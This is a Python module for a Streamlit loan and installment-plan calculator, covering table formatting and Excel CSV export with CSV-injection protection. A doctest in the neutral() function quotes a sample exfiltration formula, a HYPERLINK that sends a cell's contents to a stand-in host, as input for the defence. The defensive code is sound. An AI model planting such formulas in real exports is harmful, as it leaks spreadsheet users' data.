"""Tables for the pages: data from calc results, columns labelled in the
run's language, drawn with :func:`show` and downloaded with :func:`csv_on_demand`.

Each builder returns a :class:`Table`: the data with stable ASCII column
names and numbers as numbers (``None`` where there is none), and each
column's :class:`Column` (kind, label, help).  The two ways out format the
same data by the column's kind, on both pages:

* **on screen** every cell is text: money ``¥1,234.50`` and ``−¥500.00``,
  rates ``13.03%``, and ``—`` where a plan has no value (the row's note says
  why).  Streamlit's number columns would show ``¥-500.00`` and ``None``.
* **as CSV** for Excel: UTF-8 with a byte-order mark (so Excel reads the
  Chinese headers), headers in the page's language, money to the fen, rates
  in percent to 4 decimals, whole numbers as integers, no ``-0.00``, an empty
  cell where there is no value.
"""

from __future__ import annotations

import math
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field, fields
from typing import Any, Literal, cast

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
import streamlit as st

from calc import cashline as cl
from calc.burden import Peak, Timeline
from calc.cash_vs_installment import CashVsInstallment
from calc.compare import Comparison, PlanResult
from calc.errors import CalcError
from calc.money import round_fen, round_fen_array
from ui.fmt import NO_VALUE, pct, yuan
from ui.frames import to_frame
from ui.i18n import error_text, t

__all__ = ["Table", "Column", "money_col", "rate_col", "int_col", "text_col", "show",
           "csv_on_demand", "csv_text", "neutral", "FORMULA_START", "comparison", "plan_rates",
           "amortization", "flows", "statements", "statements_of", "ledger", "ledger_columns",
           "ledger_of",
           "pay_rules", "versus", "burden", "budget", "budget_of"]


@dataclass(frozen=True)
class Column:
    """How one column is labelled and formatted: ``kind`` is ``money`` (yuan),
    ``exact`` (yuan not yet rounded to the fen, such as a day's accrual: 4
    decimals), ``rate`` (already in percent), ``int`` (``fmt`` for a
    fractional one, e.g. ``"%.2f"`` months) or ``text``.  ``title`` is a
    header given as it is (a plan's name) instead of the catalogue's ``key``."""

    key: str
    kind: str
    help_key: str | None = None
    fmt: str | None = None
    options: dict[str, Any] = field(default_factory=dict)
    title: str | None = None

    @property
    def label(self) -> str:
        return self.title if self.title is not None else t(self.key)

    def cell(self, value: object) -> str:
        """The value as shown on screen."""
        if _missing(value):
            return "" if self.kind == "text" else NO_VALUE
        if self.kind == "money":
            return yuan(_float(value))
        if self.kind == "exact":
            return _exact(_float(value)).replace("-", "−")
        if self.kind == "rate":
            return pct(_float(value) / 100)
        if self.kind == "int":
            x = _float(value)
            if self.fmt is not None and x != round(x):
                return (self.fmt % x).replace("-", "−")
            return str(int(round(x))).replace("-", "−")
        return str(value)

    def csv(self, value: object) -> object:
        """The value as written to the CSV file."""
        if _missing(value):
            return ""
        if self.kind == "money":
            return f"{round_fen(_float(value)) + 0.0:.2f}"
        if self.kind == "exact":
            return _exact(_float(value))
        if self.kind == "rate":
            return _exact(_float(value))
        if self.kind == "int":
            x = _float(value)
            return int(round(x)) if abs(x - round(x)) < 1e-9 else f"{x:.2f}"
        return str(value)

    def config(self, cells: Sequence[str] = ()) -> Any:
        """The st.column_config column that shows :meth:`cell` text; a number
        column wide enough for its header and its widest cell (the grid sizes
        columns by their cells only, and cut headers such as "Effective annual")."""
        align: Literal["right"] | None = None if self.kind == "text" else "right"
        options = dict(self.options)
        if "width" not in options:
            header = _text_px(self.label) + (48 if self.help_key else 30)
            options["width"] = min(max([header, *(_text_px(c) + 20 for c in cells)]), 260)
        return st.column_config.TextColumn(
            self.label, help=t(self.help_key) if self.help_key else None,
            alignment=align, **options)


def _text_px(text: str) -> int:
    """Rough width of ``text`` at the grid's 14 px font: wide for CJK."""
    return sum(15 if ord(ch) > 0x2E80 else 7 for ch in text)


def _exact(x: float) -> str:
    """4 decimals, and no "-0.0000"."""
    text = f"{x:.4f}"
    return "0.0000" if text == "-0.0000" else text


def _float(value: object) -> float:
    return float(cast(float, value))


def _missing(value: object) -> bool:
    return value is None or (isinstance(value, float) and math.isnan(value))


def money_col(key: str, help_key: str | None = None) -> Column:
    """Yuan to the fen with thousands separators, −¥ when negative."""
    return Column(key, "money", help_key)


def rate_col(key: str, help_key: str | None = None) -> Column:
    """A rate already in percent, two decimals."""
    return Column(key, "rate", help_key)


def int_col(key: str, help_key: str | None = None, fmt: str | None = None) -> Column:
    """A count; ``fmt`` for the values that are not whole (fractional months)."""
    return Column(key, "int", help_key, fmt)


def text_col(key: str, **kw: Any) -> Column:
    return Column(key, "text", options=kw)


@dataclass(frozen=True)
class Table:
    """Data (an Arrow table or a DataFrame, numbers as numbers) and its columns.
    A column without a :class:`Column` is left out of the screen and the CSV."""

    data: Any
    columns: dict[str, Column] = field(default_factory=dict)

    def rows(self) -> int:
        return int(self.data.num_rows if isinstance(self.data, pa.Table) else len(self.data))

    def values(self) -> dict[str, list[object]]:
        """Column name → its values, for the configured columns in order."""
        data = self.data
        got = (data.select(list(self.columns)).to_pydict() if isinstance(data, pa.Table)
               else {k: data[k].tolist() for k in self.columns})
        return {k: got[k] for k in self.columns}

    def headers(self) -> dict[str, str]:
        """Column name → its label in the run's language."""
        return {k: c.label for k, c in self.columns.items()}


def show(where: Any, table: Table, key: str, **kw: Any) -> None:
    """Draw ``table`` as a dataframe of formatted text (no index)."""
    cells = {k: [table.columns[k].cell(v) for v in vals] for k, vals in table.values().items()}
    where.dataframe(pa.table(cells), hide_index=True, key=key,
                    column_config={k: c.config(cells[k]) for k, c in table.columns.items()},
                    **kw)


def csv_on_demand(table: Table, source: Callable[[], Table] | None = None) -> Callable[[], str]:
    """A function giving the table as CSV text for Excel (module docstring):
    for ``st.download_button``, which calls it only when the file is asked for.

    With ``source`` the function keeps only ``table``'s headers and
    ``source``, a function of the scenario's inputs (a ``functools.partial``
    over them) that builds the table again when the file is asked for: a
    session holds its download buttons' functions while it lives and two
    minutes after it closes, and a century's daily ledger is 36,501 rows,
    4 MB (issue 20).  ``table`` may then hold no data (:func:`ledger_columns`)."""
    # headers now, in the run's language: the file is made later, outside the
    # script run, where the session's language cannot be read
    headers = table.headers()
    if source is None:
        def make() -> str:
            return csv_text(table, headers)
    else:
        def make() -> str:
            return csv_text(source(), headers)

    return make


#: What a spreadsheet reads as a formula at the start of a cell (OWASP, CSV
#: injection): tab and carriage return too, which some strip first.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutral(text: str) -> str:
    """``text`` as a spreadsheet shows it, never run as a formula: one that
    begins with :data:`FORMULA_START` gets a leading single quote (OWASP's rule).

    >>> print(neutral('=HYPERLINK("//ev.il/?"&B2,"Open")'), neutral("-5"), neutral("ok"))
    '=HYPERLINK("//ev.il/?"&B2,"Open") '-5 ok
    """
    return "'" + text if text.startswith(FORMULA_START) else text


def _neutral_array(arr: pa.Array) -> pa.Array:
    risky = pc.match_substring_regex(arr, r"^[=+\-@\t\r]")
    return pc.if_else(risky, pc.binary_join_element_wise("'", arr, ""), arr)


def _quoted(arr: pa.Array) -> pa.Array:
    """CSV quoting, as needed: a value with a comma, a quote or a line break
    in double quotes, its quotes doubled."""
    needs = pc.match_substring_regex(arr, r'[",\r\n]')
    doubled = pc.replace_substring(arr, '"', '""')
    return pc.if_else(needs, pc.binary_join_element_wise('"', doubled, '"', ""), arr)


def _decimals(x: np.ndarray, places: int) -> pa.Array:
    """Numbers as text with ``places`` decimals, half away from zero, no
    ``-0.00``; NaN as null (an empty cell).  Whole arrays at once (the per
    cell Python formatting took 0.4 s for a century's ledger)."""
    missing = np.isnan(x)
    scale = 10 ** places
    clean = np.where(missing, 0.0, x)
    if places == 2:  # to the fen as calc.money.round_fen (1.005 is 1.00499999... in binary)
        units = np.rint(np.abs(round_fen_array(clean)) * scale).astype(np.int64)
    else:  # as Python formats them, but for a rare tie
        units = np.floor(np.abs(clean) * scale + 0.5).astype(np.int64)
    sign = pa.array(np.where((x < 0) & (units > 0), "-", ""))
    whole = pc.cast(pa.array(units // scale), pa.string())
    frac = pc.utf8_lpad(pc.cast(pa.array(units % scale), pa.string()), places, "0")
    text = pc.binary_join_element_wise(sign, pc.binary_join_element_wise(whole, frac, "."), "")
    return pc.if_else(pa.array(missing), pa.scalar(None, pa.string()), text)


def _csv_array(col: Column, values: Any) -> pa.Array:
    """One column's cells as CSV text (nulls empty), the same as
    :meth:`Column.csv` for each value."""
    if col.kind == "text":
        arr = pa.array(["" if _missing(v) else str(v) for v in values], pa.string())
        return _quoted(_neutral_array(arr))
    x = np.array([np.nan if _missing(v) else _float(v) for v in values], dtype=np.float64) \
        if isinstance(values, list) else np.asarray(values, dtype=np.float64)
    if col.kind == "money":
        return _decimals(x, 2)
    if col.kind in ("exact", "rate"):
        return _decimals(x, 4)
    whole = np.abs(x - np.round(x)) < 1e-9  # "int": whole numbers as integers
    ints = pc.cast(pa.array(np.where(whole, np.round(x), 0.0).astype(np.int64)), pa.string())
    return pc.if_else(pa.array(np.isnan(x)), pa.scalar(None, pa.string()),
                      pc.if_else(pa.array(whole), ints, _decimals(x, 2)))


def csv_text(table: Table, headers: dict[str, str] | None = None) -> str:
    """``table`` as CSV text for Excel (module docstring), ``headers`` by
    column name (else the run's); text cells and headers neutralised
    (:func:`neutral`)."""
    heads = headers if headers is not None else table.headers()
    data = table.data
    cols = []
    for k, col in table.columns.items():
        if isinstance(data, pa.Table):
            values: Any = data.column(k).to_numpy(zero_copy_only=False) \
                if col.kind != "text" else data.column(k).to_pylist()
        else:
            values = data[k].to_numpy(dtype=np.float64, na_value=np.nan) \
                if col.kind != "text" else data[k].tolist()
        if col.kind != "text" and isinstance(values, np.ndarray) and values.dtype == object:
            values = values.tolist()
        cols.append(_csv_array(col, values))
    head = pa.array([neutral(heads[k]) for k in table.columns], pa.string())
    header = ",".join(_quoted(head).to_pylist())
    if cols:
        rows = pc.binary_join_element_wise(*cols, ",", null_handling="replace",
                                           null_replacement="")
        body = "\n".join(rows.to_pylist())
    else:
        body = ""
    return "\ufeff" + header + "\n" + (body + "\n" if body else "")


# ---------------------------------------------------------------- comparison


def comparison(c: Comparison, names: Sequence[str]) -> Table:
    """Paying in full and every plan: what a month asks, the true rates and the
    cost, the cheapest starred as on the cards.

    Every column fits a laptop's 978-pixel column without a sideways scroll
    (issue 21: 1,185 px of columns in Chinese, 1,328 in English), and a phone
    shows the plan, its payment, its true rate and its cost first: the total
    paid, the advertised and the average-balance rates are in the plan's
    details (:func:`plan_rates`); the 24% line and the cheapest are said
    beside the cards, so the note column is there only for a plan that
    failed, saying why."""
    rows: list[dict[str, object]] = [{  # paying in full borrows nothing: every rate is zero
        "plan": ("★ " if c.cheapest == -1 else "") + t("cmp.full"), "first": c.cash_price,
        "largest": c.cash_price, "total_cost": 0.0, "apr": 0.0, "effective": 0.0,
        "present_cost": 0.0, "note": "",
    }]
    for j, r in enumerate(c.plans):
        if r.schedule is None or r.rates is None:
            rows.append({"plan": names[j], "note": _error(r.error)})
            continue
        s, rt = r.schedule, r.rates
        rows.append({
            "plan": ("★ " if c.cheapest == j else "") + names[j], "first": float(s.payment[0]),
            "largest": float(s.payment.max()), "total_cost": s.total_cost,
            "apr": 100 * rt.nominal, "effective": 100 * rt.effective,
            "present_cost": r.present_cost, "note": "",
        })
    order = ["plan", "first", "apr", "total_cost", "largest", "effective", "present_cost",
             "note"]
    if c.savings_yield == 0:  # the cost in today's money is the total cost
        order.remove("present_cost")
    if not any(row.get("note") for row in rows):
        order.remove("note")
    # an Arrow table goes to the browser as it is; a DataFrame would be converted
    data = pa.Table.from_pylist([{k: row.get(k) for k in order} for row in rows])
    columns = {
        "plan": text_col("col.plan", pinned=True),
        "first": money_col("col.first"),
        "largest": money_col("col.largest", "col.largest_help"),
        "total_paid": money_col("col.total_paid", "col.total_paid_help"),
        "total_cost": money_col("col.total_cost", "col.total_cost_help"),
        "advertised": rate_col("col.advertised", "formula.advertised"),
        "apr": rate_col("col.apr", "formula.apr"),
        "effective": rate_col("col.effective", "formula.effective"),
        "avg_balance": rate_col("col.avg_balance", "formula.avg_balance"),
        "present_cost": money_col("col.present_cost", "col.present_cost_help"),
        "note": text_col("col.note", width="medium"),
    }
    return Table(data, {k: columns[k] for k in order})


def plan_rates(r: PlanResult) -> Table:
    """One plan's figures left out of :func:`comparison` for its width: the
    total paid, the advertised rate and the average-balance rate, each with
    its formula in the column's help."""
    s, rt = r.schedule, r.rates
    assert s is not None and rt is not None
    data = pa.Table.from_pylist([{"total_paid": s.total_paid,
                                  "advertised": 100 * rt.advertised,
                                  "avg_balance": 100 * rt.average_balance}])
    return Table(data, {
        "total_paid": money_col("col.total_paid", "col.total_paid_help"),
        "advertised": rate_col("col.advertised", "formula.advertised"),
        "avg_balance": rate_col("col.avg_balance", "formula.avg_balance"),
    })


def _error(err: CalcError | None) -> str:
    return error_text(err) if err is not None else ""


def amortization(r: PlanResult) -> Table:
    """One plan's installments: when, how much, split, balance left."""
    s = r.schedule
    assert s is not None
    data = pa.table({
        "k": np.arange(1, s.n + 1),
        "month": s.due_period + s.due_fraction,
        "payment": s.payment,
        "principal": s.principal,
        "charge": s.charge,
        "balance": s.balance,
    })
    return Table(data, {
        "k": int_col("col.k"),
        "month": int_col("col.month", "col.month_help", "%.2f"),
        "payment": money_col("col.payment"),
        "principal": money_col("col.principal"),
        "charge": money_col("col.charge"),
        "balance": money_col("col.balance"),
    })


def flows(r: PlanResult) -> Table:
    """The cash flows the rate is solved from ("show the math")."""
    s = r.schedule
    assert s is not None
    data = pd.DataFrame({
        "t": [f.period + f.fraction for f in s.flows],
        "amount": [f.amount for f in s.flows],
    })
    return Table(data, {
        "t": int_col("col.month", fmt="%.2f"),
        "amount": money_col("col.flow", "col.flow_help"),
    })


# ----------------------------------------------------------------- cash line

_STATEMENT_COLS = ["month", "day", "drawn", "interest", "fees", "penalties", "due", "paid",
                   "owed"]
_ROLLOVER_COLS = ["rolled", "line2_interest", "line2_owed"]


def statements(r: cl.CashLineResult, late: Sequence[cl.LatePayment] = ()) -> Table:
    """Monthly statements; the second line's columns when a rollover ran,
    and a 逾期 mark on each statement paid ``late`` (its days)."""
    cols = list(_STATEMENT_COLS)
    if r.totals.rolled or r.totals.line2_interest:
        cols += _ROLLOVER_COLS
    data = to_frame(r.statements)[cols]
    config = {c: money_col(f"cash.col.{c}") for c in cols if c not in ("month", "day")}
    config["month"] = int_col("cash.col.month")
    config["day"] = int_col("cash.col.day")
    marks = {p.month: t("cash.late_mark", d=p.days) for p in late}
    if any(m in marks for m in data["month"]):
        data = data.assign(late=[marks.get(int(m), "") for m in data["month"]])
        cols.insert(cols.index("paid") + 1, "late")
        config["late"] = text_col("cash.col.late")
    return Table(data, {c: config[c] for c in cols})


#: The ledger's exact accruals (not yet rounded to the fen by a charge), kept
#: to 4 decimals so a day's 0.075 is not written as 0.08.
_EXACT = ("interest", "line2_interest", "accrued", "line2_accrued")


def ledger_columns() -> dict[str, Column]:
    """The daily ledger's columns, one per calc field: exact accruals to 4
    decimals, every other amount to the fen (no data needed: the download's
    headers, :func:`csv_on_demand`)."""
    return {f.name: (int_col("cash.ledger.day") if f.name == "day"
                     else Column(f"cash.ledger.{f.name}", "exact") if f.name in _EXACT
                     else money_col(f"cash.ledger.{f.name}"))
            for f in fields(cl.Ledger)}


def ledger(r: cl.CashLineResult) -> Table:
    """The daily ledger (:func:`ledger_columns`), for the CSV.  Formatting
    waits for :func:`csv_on_demand`: a century's ledger is 36,501 rows."""
    return Table(to_frame(r.ledger), ledger_columns())


def ledger_of(result: Callable[[], cl.CashLineResult]) -> Table:
    """:func:`ledger` of ``result()``: for :func:`csv_on_demand`'s ``source``,
    ``result`` a function of the scenario's inputs."""
    return ledger(result())


def statements_of(result: Callable[[], cl.CashLineResult],
                  late: Sequence[cl.LatePayment] = ()) -> Table:
    """:func:`statements` of ``result()`` (as :func:`ledger_of`), marked ``late``."""
    return statements(result(), late)


def _unpaid(r: cl.CashLineResult) -> str:
    """Why a run that never pays off ended: stalled, past the debt cap, or
    still owing at the horizon."""
    if "stalled" in r.flags:
        return t("cash.unpaid.stalled")
    if "debt_cap" in r.flags:
        return t("cash.unpaid.debt_cap")
    return t("cash.unpaid.horizon", years=cl.HORIZON_MONTHS // 12)


def _line_notes(above: bool, effective_above: bool) -> list[str]:
    if above:
        return [t("cash.above_line_short")]
    return [t("cash.effective_above_line_short")] if effective_above else []


def pay_rules(outcomes: Sequence[cl.PayRuleOutcome]) -> Table:
    """The same draws paid in full, by the minimum, by a fixed amount; ``—``
    where a rule never pays off or has no rate, and the note says why."""
    rows: list[dict[str, object]] = []
    for o in outcomes:
        label = t(f"pay_rule.{o.rule}")
        if o.result is None:
            rows.append({"rule": label, "note": _error(o.error)})
            continue
        r = o.result
        notes = [] if r.status == "paid_off" else [_unpaid(r)]
        if r.rates is None and r.status == "paid_off":  # an unpaid run's reason says why
            notes.append(t("cash.flag.no_rate"))
        # held against the higher of the APR and the contract rate (issue 19 A)
        notes += _line_notes(r.above_line, r.effective_above_line)
        rows.append({
            "rule": label, "paid": r.totals.paid, "cost": r.totals.cost,
            "apr": None if r.rates is None else 100 * r.rates.nominal,
            "months": r.payoff_month, "note": " · ".join(notes),
        })
    order = ["rule", "paid", "cost", "apr", "months", "note"]
    data = pd.DataFrame([{k: row.get(k) for k in order} for row in rows], columns=order)
    return Table(data, {
        "rule": text_col("cash.pay_rule"),
        "paid": money_col("cash.total_paid"),
        "cost": money_col("cash.total_cost"),
        "apr": rate_col("col.apr", "formula.apr"),
        "months": int_col("cash.months_to_pay"),
        "note": text_col("col.note", width="medium"),
    })


def versus(c: CashVsInstallment) -> Table:
    """The same purchase on this cash line (its rollover and late payments
    included) and on an installment plan; ``—`` where the line never pays off,
    and the note says why."""
    rows = []
    for key, s in (("cash.this_line", c.cash_line), ("cash.installment", c.installment)):
        notes = [] if s.status == "paid_off" else [_unpaid(c.result)]
        notes += _line_notes(s.above_line, s.effective_above_line)
        rows.append({
            "way": t(key), "first": s.first_payment, "largest": s.max_payment,
            "payments": s.payments, "paid": s.total_paid, "cost": s.cost,
            "apr": None if s.nominal is None else 100 * s.nominal,
            "effective": None if s.effective is None else 100 * s.effective,
            "months": s.payoff_month, "note": " · ".join(notes),
        })
    return Table(pd.DataFrame(rows), {
        "way": text_col("cash.way"),
        "first": money_col("col.first"),
        "largest": money_col("col.largest", "col.largest_help"),
        "payments": int_col("cash.payments"),
        "paid": money_col("cash.total_paid"),
        "cost": money_col("cash.total_cost"),
        "apr": rate_col("col.apr", "formula.apr"),
        "effective": rate_col("col.effective", "formula.effective"),
        "months": int_col("cash.months_to_pay", fmt="%.2f"),
        "note": text_col("col.note", width="medium"),
    })


# -------------------------------------------------------------------- budget


def burden(names: Sequence[str], peaks: Sequence[Peak | None],
           warned: Sequence[str]) -> Table:
    """Each choice's heaviest month against the household: the payment, its
    share of income alone and with the payments already owed, the money left
    after essentials, and its warnings in short (``warned``); ``None`` for a
    choice that could not be computed."""
    rows: list[dict[str, object]] = []
    for name, p, w in zip(names, peaks, warned, strict=True):
        row: dict[str, object] = {"choice": name, "warnings": w}
        if p is not None:
            row.update(
                largest=p.payments, month=p.month,
                share_alone=None if p.share_alone is None else 100 * p.share_alone,
                share=None if p.share is None else 100 * p.share, left=p.left)
        rows.append(row)
    cols = ("choice", "largest", "month", "share_alone", "share", "left", "warnings")
    data = pd.DataFrame(rows, columns=list(cols))
    return Table(data, {
        # short headers, the long ones in the help (issue 21: 1,210 px of
        # columns in English in a laptop's 978)
        "choice": text_col("afford.col.choice"),
        "largest": money_col("afford.col.peak", "afford.col.largest_help"),
        "month": int_col("afford.col.month"),
        "share_alone": rate_col("afford.col.of_income", "afford.col.share_alone_help"),
        "share": rate_col("afford.col.with_owed", "afford.col.share_help"),
        "left": money_col("afford.col.left_short", "afford.col.left_help"),
        "warnings": text_col("afford.col.warnings"),
    })


def budget(tl: Timeline, names: Sequence[str]) -> Table:
    """The timeline month by month: each obligation's payment (headed by its
    name), the payments already owed, the total, its share of income and the
    money left (the last two only with an income)."""
    data: dict[str, object] = {"month": tl.month}
    columns = {"month": int_col("bud.col.month")}
    for j, name in enumerate(names):
        data[f"o{j + 1}"] = tl.payments[j]
        columns[f"o{j + 1}"] = Column(f"o{j + 1}", "money", title=name)
    if tl.household.existing_payments:
        data["existing"] = tl.existing
        columns["existing"] = money_col("bud.col.existing")
    data["total"] = tl.total
    columns["total"] = money_col("bud.col.total")
    if tl.share is not None and tl.left is not None:
        data["share"] = 100 * tl.share
        columns["share"] = rate_col("bud.col.share")
        data["left"] = tl.left
        columns["left"] = money_col("bud.col.left")
    return Table(pd.DataFrame(data), columns)


def budget_of(timeline: Callable[[], Timeline | None], names: Sequence[str]) -> Table:
    """:func:`budget` of ``timeline()`` (as :func:`ledger_of`); no rows when
    there is none."""
    tl = timeline()
    if tl is None:
        return Table(pd.DataFrame({"month": []}), {"month": int_col("bud.col.month")})
    return budget(tl, names)
